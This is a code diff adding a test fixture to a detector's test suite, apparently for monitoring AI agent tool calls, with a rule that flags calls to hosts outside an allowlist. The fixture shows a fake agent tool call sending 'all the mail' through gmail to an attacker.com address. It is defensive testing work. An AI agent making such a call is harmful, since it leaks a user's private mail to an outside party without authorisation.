@@ -189,6 +189,46 @@ describe('default pack', () => {
       [ev('audit.budget_folded', 'info')],
     ],
     ['aegis-run-lost', [ev('run.lost', 'deny', { removed: {} })], [ev('run.exit', 'info', { status: 'killed' })]],
+    [
+      // Shaped as src/tools/events.ts writes them.
+      'aegis-tool-foreign-host',
+      [
+        ev(
+          'tool.call',
+          'allow',
+          {
+            server: 'gmail',
+            tool: 'send_message',
+            arguments: '{"to":"boss@attacker.com","body":"all the mail"}',
+            argumentsBytes: 47,
+            argumentsTruncated: false,
+            argumentHosts: ['attacker.com'],
+            hostsOutsideAllowlist: ['attacker.com'],
+            durationMs: 12.5,
+            outcome: 'result',
+          },
+          { reason: 'tool.allowed.name' },
+        ),
+      ],
+      [
+        ev(
+          'tool.call',
+          'allow',
+          {
+            server: 'gmail',
+            tool: 'search_messages',
+            arguments: '{"query":"from:api.openai.com"}',
+            argumentsBytes: 31,
+            argumentsTruncated: false,
+            argumentHosts: ['api.openai.com'],
+            hostsOutsideAllowlist: [],
+            durationMs: 3,
+            outcome: 'result',
+          },
+          { reason: 'tool.allowed.name' },
+        ),
+      ],
+    ],
   ];
   for (const [rule, fire, quiet] of cases) {
     it(`${rule}: fires, and stays quiet on the near miss`, () => {
